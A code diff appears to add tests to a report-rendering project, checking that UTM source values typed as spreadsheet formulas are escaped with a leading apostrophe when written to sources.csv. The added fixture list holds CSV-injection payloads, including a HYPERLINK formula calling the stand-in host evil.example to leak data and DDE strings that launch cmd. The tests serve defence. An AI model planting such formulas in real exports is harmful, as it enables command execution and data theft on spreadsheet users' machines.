@@ -221,3 +221,47 @@ def test_emails_outside_sequences_are_listed_with_no_sent_count() -> None:
     day = {metric_key("email", "delivered", None, None): 9, metric_key("email", "opened", None, None): 3}
     _, html = parse(summary_of(days={D: day}))
     assert "<td>Emails outside sequences</td><td class=n>n/a</td><td class=n>9</td>" in html
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak","Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("typed", FORMULAS)
+def test_a_utm_source_that_is_a_formula_reaches_sources_csv_as_text(typed: str) -> None:
+    # Given a link whose utm_source someone typed as a spreadsheet formula
+    days = {D: {metric_key("captured", "utm_source", typed): 2, metric_key("captured", "channel", "social"): 2}}
+
+    # When the report is written
+    files = report_render.render_files(summary_of(days=days))
+
+    # Then a spreadsheet opening sources.csv shows the text, and runs nothing; numbers stay numbers
+    [row] = [r for r in rows(files["sources.csv"]) if r["dimension"] == "utm_source"]
+    assert row["value"] == "'" + typed
+    assert row["captured_in_period"] == "2"
+
+
+def test_numbers_and_the_no_value_dash_are_not_touched() -> None:
+    from talentpool.spreadsheet import safe_cell
+
+    assert [safe_cell(v) for v in ("-", "-3", "+1.5e3", "-.5", "linkedin", "a=b")] == [
+        "-",
+        "-3",
+        "+1.5e3",
+        "-.5",
+        "linkedin",
+        "a=b",
+    ]
+    assert [safe_cell(v) for v in ("=1", "@x", "-x", "+x", "\tx", "\rx", "--1")] == [
+        "'=1",
+        "'@x",
+        "'-x",
+        "'+x",
+        "'\tx",
+        "'\rx",
+        "'--1",
+    ]
